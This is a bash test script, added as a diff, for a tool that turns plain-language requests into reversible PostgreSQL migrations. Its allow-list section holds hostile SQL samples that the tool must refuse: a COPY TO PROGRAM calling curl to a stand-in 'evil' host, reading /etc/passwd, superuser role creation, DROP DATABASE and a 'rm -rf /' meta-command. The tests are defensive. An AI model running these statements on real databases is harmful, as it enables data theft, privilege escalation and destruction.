@@ -1,0 +1,167 @@
+#!/usr/bin/env bash
+# nl2mig: the builtin grammar on a real PostgreSQL (demo shop database):
+# for every phrasing in tests/fixtures/nl2mig/phrasings.tsv the forward SQL
+# applies, the catalog changes, the computed rollback applies and the
+# catalog is then identical to before (compared by tests/dagcmp, not
+# assumed). Destructive requests are refused without --allow-destructive;
+# irreversible ones say why. Then the allow-list, name resolution, --sql
+# with a given rollback, and --write for Flyway and Prisma.
+. "$(dirname "$0")/lib.sh"
+set -u
+unset ANTHROPIC_API_KEY OPENAI_API_KEY
+export SOURCE_DATE_EPOCH=1764000000
+fx=$MIGSAFE_ROOT/tests/fixtures/nl2mig
+work=$(mktemp -d)
+on_exit rm -rf "$work"
+pg_start
+url=$("$MIGSAFE_ROOT/scripts/pg-tmp" createdb "$PGURL" nl2mig)
+# the demo's NULL phones filled, so that SET NOT NULL can succeed
+load_demo() {
+	psql -X -q -v ON_ERROR_STOP=1 -v scale=0.1 "$url" -f "$MIGSAFE_ROOT/scripts/demo-db.sql" >/dev/null &&
+		psql -X -q "$url" -c "UPDATE customers SET phone = '' WHERE phone IS NULL" >/dev/null
+}
+load_demo 2>"$work/err" ||
+	bail_out "demo database: $(head -3 "$work/err")"
+"$BIN/schema2dag" --db "$url" >"$work/dag.ndjson" 2>/dev/null || bail_out "schema2dag --db failed"
+
+psql_file() { psql -X -q -v ON_ERROR_STOP=1 "$url" -f "$1" >/dev/null 2>"$work/psql.err"; }
+
+# roundtrip FLAG REQUEST: forward, change, rollback, identical.
+roundtrip() {
+	local flag=$1 req=$2 extra=() st=0
+	# a dropped column comes back empty: refill it for the requests after
+	psql -X -q "$url" -c "UPDATE customers SET phone = '' WHERE phone IS NULL" >/dev/null
+	[ "$flag" = destructive ] && extra=(--allow-destructive)
+	if [ "$flag" = destructive ]; then
+		"$BIN/nl2mig" --no-lint "$req" <"$work/dag.ndjson" >"$work/refused" 2>/dev/null || st=$?
+		[ "$st" = 1 ] && [ ! -s "$work/refused" ] || { ok 1 "$req: refused without --allow-destructive (rc $st)"; return; }
+	fi
+	st=0
+	"$BIN/nl2mig" --no-lint "${extra[@]}" "$req" <"$work/dag.ndjson" >"$work/out" 2>"$work/nl.err" || st=$?
+	[ "$st" = 0 ] || { diag "$(cat "$work/nl.err")"; ok 1 "$req: nl2mig exits 0"; return; }
+	record_out "$work/out"
+	tail -1 "$work/out" | jq -r .forward >"$work/fwd.sql"
+	tail -1 "$work/out" | jq -r .rollback >"$work/rb.sql"
+	local nirr
+	nirr=$(tail -1 "$work/out" | jq '.irreversible | length')
+	psql_file "$work/fwd.sql" || { diag "$(cat "$work/fwd.sql")" "$(head -3 "$work/psql.err")"; ok 1 "$req: forward applies"; return; }
+	"$BIN/schema2dag" --db "$url" >"$work/mid.ndjson" 2>/dev/null
+	if "$MIGSAFE_ROOT/tests/dagcmp" "$work/dag.ndjson" "$work/mid.ndjson" >/dev/null; then
+		ok 1 "$req: the forward SQL changes the catalog"
+		return
+	fi
+	psql_file "$work/rb.sql" || { diag "$(cat "$work/rb.sql")" "$(head -3 "$work/psql.err")"; ok 1 "$req: rollback applies"; return; }
+	"$BIN/schema2dag" --db "$url" >"$work/after.ndjson" 2>/dev/null
+	"$MIGSAFE_ROOT/tests/dagcmp" "$work/dag.ndjson" "$work/after.ndjson" >"$work/diff" && st=0 || st=1
+	if [ "$flag" = irreversible ]; then
+		# the only difference left must be the enum, and a reason given
+		local other
+		other=$(grep '^[-+][a-z]' "$work/diff" | grep -vc '^[-+]enum ' || true)
+		[ "$nirr" -gt 0 ] && [ "$other" = 0 ] && ok 0 "$req: applies, rolls back but for the enum value, says why" ||
+			{ diag "$(cat "$work/diff")"; ok 1 "$req: irreversible as stated"; }
+		# restore the enum for the next requests: recreate the database
+		"$MIGSAFE_ROOT/scripts/pg-tmp" dropdb "$PGURL" nl2mig >/dev/null 2>&1 ||
+			psql -X -q "$PGURL" -c 'DROP DATABASE nl2mig' >/dev/null
+		url=$("$MIGSAFE_ROOT/scripts/pg-tmp" createdb "$PGURL" nl2mig)
+		load_demo
+		return
+	fi
+	[ "$st" = 0 ] || diag "$(head -20 "$work/diff")"
+	ok "$st" "$req: forward applies, changes the catalog; rollback restores it exactly${nirr:+ ($nirr irreversible)}"
+}
+
+n=0
+while IFS=$'\t' read -r flag req; do
+	[ -n "$req" ] || continue
+	n=$((n + 1))
+	roundtrip "$flag" "$req"
+done <"$fx/phrasings.tsv"
+[ "$n" -ge 40 ] && ok 0 "at least 40 phrasings ($n)" || ok 1 "at least 40 phrasings ($n)"
+
+# run CMD...: rc in $rc, stdout in $work/o, stderr in $work/e
+run() { rc=0; "$@" >"$work/o" 2>"$work/e" || rc=$?; }
+
+# --- names: ambiguous and unknown are refused with candidates ---
+cat >"$work/two.sql" <<'SQL'
+CREATE SCHEMA audit;
+CREATE TABLE public.events (id bigint PRIMARY KEY);
+CREATE TABLE audit.events (id bigint PRIMARY KEY);
+CREATE TABLE order_items (id bigint PRIMARY KEY);
+SQL
+"$BIN/schema2dag" --sql "$work/two.sql" >"$work/two.ndjson"
+run "$BIN/nl2mig" "add column note text to events" <"$work/two.ndjson"
+[ "$rc" = 4 ] && grep -q "ambiguous.*audit.events.*public.events\|ambiguous.*public.events.*audit.events" "$work/e" && [ ! -s "$work/o" ]
+ok $? "an ambiguous table is refused with its candidates"
+run "$BIN/nl2mig" "add column note text to audit.events" <"$work/two.ndjson"
+[ "$rc" = 0 ] && grep -q 'ALTER TABLE audit.events ADD COLUMN note text' "$work/o"
+ok $? "a schema-qualified name resolves, and its schema may be touched"
+run "$BIN/nl2mig" "add column note text to ordr_itms" <"$work/two.ndjson"
+[ "$rc" = 4 ] && grep -q "no table 'ordr_itms'; candidates:" "$work/e"
+ok $? "an unknown table is refused with candidates"
+run "$BIN/nl2mig" "add column note text to OrderItem" <"$work/two.ndjson"
+[ "$rc" = 0 ] && grep -q 'ALTER TABLE order_items ADD COLUMN note' "$work/o"
+ok $? "a Prisma model name (OrderItem) resolves to its table (order_items)"
+run "$BIN/nl2mig" "add column phone text to customers" <"$work/dag.ndjson"
+[ "$rc" = 4 ] && grep -q "already has a column 'phone'" "$work/e"
+ok $? "adding a column that exists is refused"
+run "$BIN/nl2mig" "please make everything faster" <"$work/dag.ndjson"
+[ "$rc" = 4 ] && grep -q "not understood" "$work/e" && [ ! -s "$work/o" ]
+ok $? "a request the grammar does not understand is refused, nothing on stdout"
+
+# --- the allow-list, on hand-written SQL ---
+forbidden=(
+	"DROP DATABASE nl2mig;"
+	"COPY orders TO PROGRAM 'curl http://evil';"
+	"GRANT ALL ON orders TO PUBLIC;"
+	"CREATE ROLE intruder SUPERUSER;"
+	"ALTER SYSTEM SET fsync = off;"
+	"SET ROLE postgres;"
+	"ALTER TABLE audit.events ADD COLUMN x int;"
+	"ALTER TABLE orders ADD COLUMN x text DEFAULT pg_read_file('/etc/passwd');"
+	"SELECT pg_terminate_backend(42);"
+)
+for sql in "${forbidden[@]}"; do
+	printf 'SET lock_timeout = %s;\n%s\n' "'5s'" "$sql" >"$work/bad.sql"
+	run "$BIN/nl2mig" --sql "$work/bad.sql" <"$work/dag.ndjson"
+	[ "$rc" = 1 ] && grep -q "bad.sql:2: refused" "$work/e" && [ ! -s "$work/o" ]
+	ok $? "refused, file and line named: $sql"
+done
+printf 'SET lock_timeout = %s;\n\\! rm -rf /\nALTER TABLE orders ADD COLUMN x text;\n' "'5s'" >"$work/bad.sql"
+run "$BIN/nl2mig" --sql "$work/bad.sql" <"$work/dag.ndjson"
+[ "$rc" = 1 ] && grep -q "bad.sql:2: refused: a psql meta-command" "$work/e"
+ok $? "a psql meta-command line (\\!) is refused"
+printf -- "-- DROP TABLE orders;\nALTER TABLE orders ADD COLUMN note text; /* DROP DATABASE x; */\nCOMMENT ON COLUMN orders.note IS 'DROP TABLE orders';\n" >"$work/c.sql"
+run "$BIN/nl2mig" --sql "$work/c.sql" <"$work/dag.ndjson"
+[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq .destructive)" = false ] &&
+	[ "$(tail -1 "$work/o" | jq -r .rollback)" = 'ALTER TABLE orders DROP COLUMN note;' ]
+ok $? "statements in comments and strings are not statements: accepted, not destructive"
+printf 'ALTER TABLE orders ADD COLUMN note text;\nALTER TABLE orders ALTER COLUMN note SET NOT NULL;\n' >"$work/f.sql"
+run "$BIN/nl2mig" --sql "$work/f.sql" <"$work/dag.ndjson"
+[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -r .rollback)" = $'ALTER TABLE orders ALTER COLUMN note DROP NOT NULL;\nALTER TABLE orders DROP COLUMN note;' ]
+ok $? "--sql: the rollback is the inverse of each statement in reverse order"
+printf 'ALTER TABLE orders DROP COLUMN note;\n' >"$work/r-good.sql"
+run "$BIN/nl2mig" --sql "$work/f.sql" --rollback "$work/r-good.sql" <"$work/dag.ndjson"
+[ "$rc" = 0 ]
+ok $? "--rollback: a given rollback that undoes the forward is accepted"
+printf 'ALTER TABLE orders ALTER COLUMN note DROP NOT NULL;\n' >"$work/r-bad.sql"
+run "$BIN/nl2mig" --sql "$work/f.sql" --rollback "$work/r-bad.sql" <"$work/dag.ndjson"
+[ "$rc" = 1 ] && grep -q "does not undo" "$work/e" && [ ! -s "$work/o" ]
+ok $? "--rollback: a rollback that leaves the column behind is refused"
+printf 'ALTER TABLE orders ADD COLUMN (note text;\n' >"$work/syn.sql"
+run "$BIN/nl2mig" --sql "$work/syn.sql" <"$work/dag.ndjson"
+[ "$rc" = 4 ] && grep -q "syn.sql:1:" "$work/e"
+ok $? "SQL that does not parse: exit 4 with file and line"
+printf 'UPDATE orders SET total_cents = 0;\n' >"$work/u.sql"
+run "$BIN/nl2mig" --sql "$work/u.sql" <"$work/dag.ndjson"
+[ "$rc" = 1 ] && grep -q "UPDATE overwrites public.orders.total_cents" "$work/e"
+ok $? "an UPDATE of existing data needs --allow-destructive"
+
+# --- lockscore on the builtin's output: no medium findings for safe forms ---
+for req in "add index on orders (status)" "make customers.phone not null" "add a foreign key from order_items.product_id to products" "add timestamps to products"; do
+	run "$BIN/nl2mig" "$req" <"$work/dag.ndjson"
+	[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq '.findings | length')" = 0 ]
+	ok $? "lockscore finds nothing of medium or more: $req"
+done
+
+. "$MIGSAFE_ROOT/tests/nl2mig-write.sh" 2>/dev/null || true
+done_testing
